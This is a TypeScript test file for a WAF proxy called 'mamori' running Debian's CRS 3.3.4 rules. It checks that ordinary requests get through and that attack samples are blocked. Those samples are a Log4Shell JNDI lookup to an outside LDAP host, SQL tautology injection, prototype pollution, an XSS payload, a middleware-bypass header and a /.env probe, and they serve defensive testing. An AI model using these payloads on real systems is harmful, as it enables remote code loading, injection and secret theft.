/**
 * The WAF through `mamori up` with Debian bookworm's CRS (the `modsecurity-crs` package, CRS
 * 3.3.4): it loads with its one @rbl rule left out and said so, benign requests pass, and the
 * rules that need what CRS 4 dropped run: look-behind (920120), back-references (942130, at
 * paranoia level 2),
 * @geoLookup (910100 with high-risk countries set), mamori's rule pack deciding on its own
 * scores beside CRS 3's.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ManualClock } from '../core/clock.js';
import { MemoryStore } from '../core/memory-store.js';
import { defaultConfig } from '../config/config.js';
import { createGuard, type Guard } from '../guard/guard.js';
import { sharedData } from '../testing/shared-data.js';
import { startMamoriProxy } from './mamori-proxy.js';
import type { RunningProxy } from './http-proxy.js';
import { echoUpstream, request } from './test-harness.js';

const CRS3 = process.env.MAMORI_CRS3_DIR ?? '/usr/share/modsecurity-crs';
const libinjection = sharedData('libinjection', 'MAMORI_LIBINJECTION_DIR');
const missing = !existsSync(join(CRS3, 'rules', 'REQUEST-901-INITIALIZATION.conf')) ? `CRS 3 not at ${CRS3} (apt-get install modsecurity-crs, or set MAMORI_CRS3_DIR)` : libinjection.missing;
if (missing && process.env.MAMORI_REQUIRE_SERVICES === '1') throw new Error(`CI needs the CRS 3 test: ${missing}`);
if (missing) console.log(`skipped: the WAF with Debian's CRS 3: ${missing}`);
const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', accept: 'text/html,application/xhtml+xml', 'accept-language': 'ja,en;q=0.8' };

describe("mamori proxy: the WAF with Debian's CRS 3.3.4 (blocking, paranoia 2)", { skip: missing }, () => {
  let dir: string;
  let up: Awaited<ReturnType<typeof echoUpstream>>;
  let guard: Guard;
  let proxy: RunningProxy;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mamori-waf-crs3-'));
    up = await echoUpstream();
    const clock = new ManualClock();
    guard = createGuard(
      defaultConfig({ data_dir: dir, waf: { crs: CRS3, libinjection: libinjection.dir, own_rules: true, paranoia: 2, crs_settings: { high_risk_country_codes: 'KP IR' } } }),
      { store: new MemoryStore({ clock }), secret: Buffer.alloc(32, 3), clock },
    );
    proxy = await startMamoriProxy({ guard, upstream: up.url, trustedProxies: ['127.0.0.1/32'] });
  });
  after(async () => {
    await proxy.close();
    await up.close();
    await guard.close();
    await guard.store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  /** The rules a request matched, from its event (written just after the answer). */
  const rulesOf = async (ip: string): Promise<string> => {
    for (let i = 0; ; i++) {
      const found = await guard.store.events.query({ action: 'waf-blocked', sourceIp: ip });
      if (found.length > 0 || i >= 100) return found.map((e) => e['mamori.waf.rules'] ?? '').join(' ');
      await new Promise((r) => setTimeout(r, 50));
    }
  };
  const get = (path: string, ip: string) => request(`${proxy.url}${path}`, { headers: { ...BROWSER, 'x-forwarded-for': ip } });

  it('loads CRS 3.3.4 and says which rule it left out and why', () => {
    const waf = guard.waf!;
    assert.equal(waf.loaded.crs?.version, '3.3.4');
    assert.deepEqual(waf.waf.dropped, [910140]);
    assert.equal(waf.loaded.warnings.length, 2);
    assert.match(waf.loaded.warnings[0]!, /^CRS 3 keeps per-address state .* DoS protection \(912\)/);
    assert.match(waf.loaded.warnings[1]!, /^rule 910140 \(.*REQUEST-910-IP-REPUTATION\.conf:\d+\) left out: @rbl /);
  });

  it('lets benign requests through: a page, a form, JSON, an upload with a plain file name', async () => {
    const before = up.seen.length;
    assert.equal((await get('/products?category=tea&sort=price', '203.0.113.1')).status, 200);
    const form = await request(`${proxy.url}/contact`, { method: 'POST', headers: { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': '203.0.113.1' }, body: 'name=Sato+Hanako&comment=Thanks%2C+it+arrived+on+time%21' });
    assert.equal(form.status, 200);
    const json = await request(`${proxy.url}/api/cart`, { method: 'POST', headers: { ...BROWSER, 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.1' }, body: '{"items":[{"sku":"TEA-1","qty":2}],"note":"gift wrap"}' });
    assert.equal(json.status, 200);
    const boundary = 'mamoriBoundary42';
    const upload = `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="tea-leaves.jpg"\r\nContent-Type: image/jpeg\r\n\r\nJFIFdata\r\n--${boundary}--\r\n`;
    const file = await request(`${proxy.url}/upload`, { method: 'POST', headers: { ...BROWSER, 'content-type': `multipart/form-data; boundary=${boundary}`, 'x-forwarded-for': '203.0.113.1' }, body: upload });
    assert.equal(file.status, 200, file.body.toString());
    assert.equal(up.seen.length - before, 4);
  });

  it("runs CRS 3's look-behind rule (920120) on an upload's file name", async () => {
    const boundary = 'mamoriBoundary43';
    const upload = `--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="a';b.txt"\r\nContent-Type: text/plain\r\n\r\nx\r\n--${boundary}--\r\n`;
    const r = await request(`${proxy.url}/upload`, { method: 'POST', headers: { ...BROWSER, 'content-type': `multipart/form-data; boundary=${boundary}`, 'x-forwarded-for': '198.51.100.20' }, body: upload });
    assert.equal(r.status, 403);
    assert.match(await rulesOf('198.51.100.20'), /\b920120\b/);
  });

  it("runs CRS 3's back-reference rule (942130) on a tautology", async () => {
    const r = await get("/item?id=x%27%20or%20%27abc%27%3D%27abc", '198.51.100.21');
    assert.equal(r.status, 403);
    assert.match(await rulesOf('198.51.100.21'), /\b942130\b/);
  });

  it('looks up the country of the client (910100): a high-risk country is refused, another passes', async () => {
    // 175.45.176.1 is in a North Korean range and 8.8.8.8 in a US one in the open database mamori ships.
    const kp = await get('/', '175.45.176.1');
    assert.equal(kp.status, 403);
    assert.match(await rulesOf('175.45.176.1'), /\b910100\b/);
    assert.equal((await get('/', '8.8.8.8')).status, 200);
  });

  it("closes CRS 3's gaps: Log4Shell in a header, prototype pollution, script in the path, CRS 4's restricted headers", async () => {
    const cases: Array<[string, () => ReturnType<typeof get>, RegExp]> = [
      ['198.51.100.30', () => request(`${proxy.url}/`, { headers: { ...BROWSER, 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}', 'x-forwarded-for': '198.51.100.30' } }), /\b36108010\b/],
      ['198.51.100.31', () => get('/api/profile?constructor[prototype][isAdmin]=1', '198.51.100.31'), /\b36108020\b/],
      ['198.51.100.32', () => get('/profile/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', '198.51.100.32'), /\b36108030\b/],
      ['198.51.100.33', () => request(`${proxy.url}/`, { headers: { ...BROWSER, 'x-middleware-subrequest': 'middleware:middleware:middleware:middleware:middleware', 'x-forwarded-for': '198.51.100.33' } }), /\b920450\b/],
    ];
    for (const [ip, send, rule] of cases) {
      const r = await send();
      assert.equal(r.status, 403, ip);
      assert.match(await rulesOf(ip), rule);
    }
  });

  it("blocks with mamori's rule pack on its own scores beside CRS 3's", async () => {
    const r = await get('/.env', '198.51.100.22');
    assert.equal(r.status, 403);
    assert.match(await rulesOf('198.51.100.22'), /\b36105010\b/);
  });
});
